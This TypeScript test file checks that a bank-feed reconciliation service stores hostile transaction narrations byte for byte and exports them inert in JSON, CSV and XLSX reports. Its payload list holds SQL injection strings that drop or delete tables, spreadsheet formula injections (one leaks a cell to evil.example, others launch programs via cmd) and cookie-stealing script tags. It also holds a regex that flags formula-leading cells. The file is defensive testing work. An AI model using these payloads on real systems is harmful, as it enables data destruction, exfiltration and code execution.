import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import XLSX from 'xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'kysely';
import { reconcile } from '../../matching/engine.js';
import { writeReconciliationReport, type ReconciliationReport } from '../../adapters/reports/index.js';
import type { LedgerEntry } from '../../domain/ledger.js';
import type { BankLine } from '../../domain/reconciliation.js';
import { syncNowUpdate } from '../../workflows/messages.js';
import { startFeedHarness, type FeedHarness } from '../support/feed-harness.js';

/** Narrations and references a hostile counterparty can put on a transfer: SQL, spreadsheet formulas, HTML. */
const PAYLOADS = [
  "'; DROP TABLE bank_transactions; --",
  "Robert'); DELETE FROM accounts WHERE ('1'='1",
  "1 OR 1=1; UPDATE webhook_events SET status = 'x'",
  '" OR ""="',
  'INV-7; SELECT * FROM sqlite_master --',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!'A1'",
  '@SUM(1+1)',
  '=1+1',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'TRF FROM ACME &amp; SONS <b>LTD</b> REF 0099',
];

const DANGEROUS = /^[=+\-@\t\r]/;
const NUMERIC = /^-?[\d,]*(\.\d+)?%?$/;

let h: FeedHarness;
let dir: string;
let accountId: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'bankfeed-hostile-'));
  h = await startFeedHarness({ sandbox: { seed: 37 } });
  accountId = await h.sandbox.linkAccount({ institution: 'GTBank', kind: 'business', historyDays: 6, txnsPerDay: 1 });
  await h.startFeed(accountId);
  await h.waitFor(accountId, (s) => s.backfilled && s.state === 'ACTIVE', 90_000);
});
afterAll(async () => {
  await h?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

function stringsIn(v: unknown, out: Set<string> = new Set()): Set<string> {
  if (typeof v === 'string') out.add(v);
  else if (Array.isArray(v)) for (const x of v) stringsIn(x, out);
  else if (v && typeof v === 'object') for (const x of Object.values(v)) stringsIn(x, out);
  return out;
}

describe('narrations and references made of SQL, formulas and HTML', () => {
  it('are stored byte for byte through sync, match as plain text, and come out inert and intact in every report format', async () => {
    const amountOf = (i: number) => 1_000_000 + i * 1_111;
    for (const [i, p] of PAYLOADS.entries())
      h.sandbox.addTransactions(accountId, 1, { narration: p, amount: amountOf(i), type: i % 2 ? 'debit' : 'credit' });
    const r = await h.client.workflow
      .getHandle(`account-feed:${accountId}`)
      .executeUpdate(syncNowUpdate, { args: [{ reason: 'hostile narrations' }] });
    expect(r.status).toBe('succeeded');

    // Sync: each payload is one row, unchanged; no statement ran (the tables and their rows are all still there).
    const rows = await h.db.db
      .selectFrom('bank_transactions')
      .selectAll()
      .where('account_id', '=', accountId)
      .where('status', '!=', 'removed')
      .execute();
    for (const p of PAYLOADS)
      expect(
        rows.filter((x) => x.narration === p),
        p,
      ).toHaveLength(1);
    const tables = (
      await sql<{ name: string }>`select name from sqlite_master where type = 'table'`.execute(h.db.db)
    ).rows.map((t) => t.name);
    for (const t of ['accounts', 'bank_transactions', 'webhook_events', 'sync_runs']) expect(tables).toContain(t);
    expect(await h.db.db.selectFrom('accounts').select('id').execute()).toHaveLength(1);
    expect(rows.length).toBe(h.sandbox.truth(accountId).length);

    // Matching: the payload is the reference on both sides. A payload is no trustworthy reference, so most lines are
    // only suggested (on amount and date), but each line pairs with its own entry and nothing else.
    const hostile = rows.filter((x) => PAYLOADS.includes(x.narration));
    const bank: BankLine[] = hostile.map((x) => ({
      id: String(x.id),
      date: x.business_date,
      amountMinor: Number(x.amount_minor),
      currency: 'NGN',
      narration: x.narration,
      reference: x.narration,
    }));
    const ledger: LedgerEntry[] = hostile.map((x, i) => ({
      id: `L${i}`,
      date: x.business_date,
      amountMinor: Number(x.amount_minor),
      currency: 'NGN',
      reference: x.narration,
      description: x.narration,
      party: x.narration,
    }));
    const result = reconcile(bank, ledger);
    for (const [i, b] of bank.entries()) {
      const matched = result.matches.find((m) => m.bankIds.includes(b.id))?.ledgerIds;
      const suggested = result.suggestions.find((x) => x.bankIds.includes(b.id))?.candidates[0]?.ledgerIds;
      expect(matched ?? suggested, b.narration ?? '').toEqual([`L${i}`]);
    }
    expect(
      result.unmatchedLedger.filter(
        (id) => !result.suggestions.some((x) => x.candidates.some((c) => c.ledgerIds.includes(id))),
      ),
    ).toEqual([]);

    // Reports: the payloads everywhere a user's text can go (names, narrations, categories, references, audit).
    const report: ReconciliationReport = {
      account: {
        id: accountId,
        name: PAYLOADS[0]!,
        currency: 'NGN',
        institution: PAYLOADS[10]!,
        ledgerAccount: PAYLOADS[5]!,
      },
      period: {
        from: bank.map((b) => b.date).sort()[0]!,
        to: bank
          .map((b) => b.date)
          .sort()
          .at(-1)!,
      },
      generatedAt: new Date().toISOString(),
      statementBalanceMinor: null,
      bookBalanceMinor: null,
      bankLines: bank.map((b, i) => ({ ...b, category: PAYLOADS[(i + 1) % PAYLOADS.length]! })),
      ledgerEntries: ledger,
      result,
      audit: PAYLOADS.map((p) => ({ at: new Date().toISOString(), actor: p, action: 'confirm', entity: p, detail: p })),
    };
    const json = await writeReconciliationReport(report, join(dir, 'report.json'));
    const jsonStrings = stringsIn(JSON.parse(readFileSync(json.files[0]!, 'utf8')));
    for (const p of PAYLOADS) expect(jsonStrings.has(p), `JSON keeps ${p}`).toBe(true);

    const csv = await writeReconciliationReport(report, join(dir, 'report.csv'));
    const csvCells = new Set<string>();
    for (const f of csv.files) {
      for (const row of parseCsv(readFileSync(f), { relax_column_count: true, bom: true }) as string[][]) {
        for (const cell of row) {
          csvCells.add(cell);
          if (DANGEROUS.test(cell)) expect(cell, `CSV cell in ${f}`).toMatch(NUMERIC);
        }
      }
    }
    for (const p of PAYLOADS) expect(csvCells.has(DANGEROUS.test(p) ? `'${p}` : p), `CSV keeps ${p}`).toBe(true);

    const xlsx = await writeReconciliationReport(report, join(dir, 'report.xlsx'));
    const wb = XLSX.read(readFileSync(xlsx.files[0]!), { type: 'buffer', cellFormula: true });
    const xlsxTexts = new Set<string>();
    for (const name of wb.SheetNames) {
      const sheet = wb.Sheets[name]!;
      for (const [ref, cell] of Object.entries(sheet)) {
        if (ref.startsWith('!')) continue;
        const c = cell as XLSX.CellObject;
        expect(c.f, `formula in ${name}!${ref}`).toBeUndefined();
        if (c.t === 's') xlsxTexts.add(String(c.v));
      }
    }
    for (const p of PAYLOADS) expect(xlsxTexts.has(p) || xlsxTexts.has(`'${p}`), `XLSX keeps ${p} as text`).toBe(true);
  }, 180_000);
});
